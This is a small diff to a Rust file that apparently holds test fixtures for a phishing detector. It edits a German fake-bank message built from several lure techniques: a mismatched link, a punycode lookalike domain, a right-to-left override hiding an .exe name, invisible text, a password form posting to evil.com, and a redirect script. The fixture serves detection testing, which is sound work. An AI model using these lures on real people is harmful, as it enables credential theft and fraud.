@@ -123,6 +123,6 @@ pub const OUTLOOK: &str = r##"<html xmlns:v="urn:schemas-microsoft-com:vml" xmln
 /// A letter that wants to be taken for one of a bank.
 pub const PHISHING: &str = r##"<p>Ihr Konto wurde gesperrt.</p><div style="display:none">sparkasse sparkasse sparkasse legitim</div>
 <p>Bitte melden Sie sich an: <a href="https://sparkasse.de.login-pruefung.com/a">https://www.sparkasse.de/login</a></p>
-<p>Oder <a href="https://xn--sprkasse-9va.com/">hier</a>. Rechnung&#x202e;fdp.exe</p>
+<p>Oder <a href="https://xn--sprkasse-1za.com/">hier</a>. Rechnung&#x202e;fdp.exe</p>
 <form action="https://evil.com/"><input type=password name=p><button>Anmelden</button></form>
 <script>document.location='https://evil.com'</script><font color="#ffffff">unsichtbar</font>"##;
